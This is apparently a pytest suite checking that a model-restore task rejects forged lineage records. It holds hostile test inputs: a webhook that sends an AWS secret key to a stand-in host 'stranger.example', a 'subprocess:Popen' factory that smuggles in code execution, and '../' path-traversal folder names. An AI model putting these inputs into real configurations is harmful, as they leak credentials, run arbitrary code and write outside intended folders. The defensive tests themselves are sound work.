"""Lineages that somebody forged: what `restore` refuses, and what it does not take from them."""

import json
from contextlib import ExitStack

import pytest
import yaml

from mixmatch.config import parse_run_config
from mixmatch.errors import ArtifactError, ConfigError, LineageError
from tasks.restore import restore_version
from tasks.run_file import load_run_file, settings_digest
from tests.flows.forgery import forged, in_remote, step
from tests.flows.tampering import changed

pytestmark = pytest.mark.service

CODE = "subprocess:Popen"


@pytest.fixture(scope="module")
def site(audited_site):
    return audited_site


def set_(record, **settings):
    """Change settings of a lineage's record, and their digest."""
    record["settings"] |= settings
    record["settings_digest"] = settings_digest(parse_run_config(record["settings"], "forged"))


def refused(site, version, target, error, match, **options):
    """Restore in vain: nothing is left behind, beside the target neither."""
    before = sorted(target.parent.rglob("*"))
    with pytest.raises(error, match=match):
        restore_version(site, version.reference, target, **options)
    assert sorted(target.parent.rglob("*")) == before


def test_addresses_in_the_settings_are_not_taken_over(site, version, papers, tmp_path):
    def elsewhere(record):
        dask = {"kind": "dask", "address": "tcp://stranger.example:8786", "workers": "auto"}
        engine = record["settings"]["engine"] | dask
        webhook = "https://stranger.example/${AWS_SECRET_ACCESS_KEY}"
        set_(record, engine=engine, notify=[webhook], store="s3://stranger/store")

    with forged(site, version, papers, elsewhere):
        restored = restore_version(site, version.reference, tmp_path / "back")
    config = load_run_file(tmp_path / "back" / "run.yaml")
    assert (config.notify, config.store) == ((), None)
    assert (config.engine.kind, config.engine.address) == ("local", None)
    assert config.engine.precision == "float32"
    assert "stranger" not in (tmp_path / "back" / "run.yaml").read_text()
    assert yaml.safe_load((tmp_path / "back" / "run.yaml").read_text())["name"] == "tiny"
    assert restored.num_records > 5


def test_code_is_refused_that_the_caller_does_not_name(site, version, papers, tmp_path):
    def with_code(record):
        set_(record, model=record["settings"]["model"] | {"architecture": CODE})

    with forged(site, version, papers, with_code):
        match = rf"^--factory must be {CODE}, .* to restore {version.reference}; got None\.$"
        refused(site, version, tmp_path / "back", ConfigError, match)
        other = rf"^--factory must be {CODE}, .*got 'own\.module:build'\.$"
        named = {"factory": "own.module:build"}
        refused(site, version, tmp_path / "back", ConfigError, other, **named)


def test_a_factory_for_a_known_architecture_is_refused(site, version, tmp_path):
    match = r"^--factory must be left out, to restore .*; got 'own\.module:build'\.$"
    named = {"factory": "own.module:build"}
    refused(site, version, tmp_path / "back", ConfigError, match, **named)


def test_a_record_that_names_code_is_refused(site, version, papers, tmp_path):
    """The settings are harmless, and the base that the store is going to have is not."""
    record = json.loads((papers / "lineage.json").read_text())
    record = record["predicate"]["buildDefinition"]["internalParameters"]["record"]
    key, family = step(record, "base")["key"], record["dvc"]["family"]
    file = site.open_workspace().store / "records" / "base" / f"{key}.json"
    stored = json.loads(file.read_text())
    stored["record"]["spec"]["architecture"] = CODE

    with ExitStack() as stack:
        inside = f"store/records/base/{key}.json"
        content = json.dumps(stored).encode()
        md5 = stack.enter_context(in_remote(site, family, inside, content))
        change = forged(site, version, papers, lambda x: x["dvc"].update(family=md5))
        stack.enter_context(change)
        match = rf"known architectures or no factory, got '{CODE}' in base/{key}\.json\.$"
        refused(site, version, tmp_path / "back", ArtifactError, match)


@pytest.mark.parametrize("name", ["../escaped", "{}/escaped"])
def test_a_folder_whose_name_leads_outside_is_refused(site, version, papers, tmp_path, name):
    name = name.format(tmp_path)
    (tmp_path / "escaped.dvc").write_text("of somebody")

    def outside(record):
        record["dvc"][name] = record["dvc"]["data"]

    with forged(site, version, papers, outside):
        refused(site, version, tmp_path / "back", ConfigError, r"^The name of a DVC folder must")
    assert (tmp_path / "escaped.dvc").read_text() == "of somebody"


def test_a_lineage_that_is_not_the_registered_one_is_refused(site, version, papers, tmp_path):
    text = (papers / "lineage.json").read_text()
    match = rf"^The link lineage of {version.reference} must hold: expected \w+, found \w+\.$"
    with changed(papers / "lineage.json", f"{text} ".encode()):
        refused(site, version, tmp_path / "back", LineageError, match)


def test_without_a_lineage_nothing_is_restored(site, version, papers, tmp_path):
    (papers / "lineage.json").rename(papers / "elsewhere")
    match = r"^The link lineage of .*, found nothing \(the version has no lineage\)\.$"
    try:
        refused(site, version, tmp_path / "back", LineageError, match)
    finally:
        (papers / "elsewhere").rename(papers / "lineage.json")


def test_with_a_public_key_an_invalid_signature_is_refused(site, version, papers, tmp_path, signed):
    """The forger has the registry, but not the key."""
    match = r"^The link lineage/signature of .*: expected a valid signature, found another\.$"
    with forged(site, version, papers, lambda record: record["builder"].update(system="another")):
        refused(site, version, tmp_path / "back", LineageError, match)


def test_a_lineage_of_another_model_is_refused(site, version, papers, tmp_path):
    match = r"^The link registry/name of .*: expected other, found tiny \(the lineage was written"
    with forged(site, version, papers, lambda record: record.update(name="other")):
        refused(site, version, tmp_path / "back", LineageError, match)


def test_a_signed_version_comes_back_into_a_folder_of_any_name(site, version, tmp_path, signed):
    """Even that of what DVC keeps."""
    restored = restore_version(site, version.reference, tmp_path / "data")
    assert restored.num_records > 5
    assert sorted(x.name for x in (tmp_path / "data").iterdir()) == [".mixmatch", "run.yaml"]
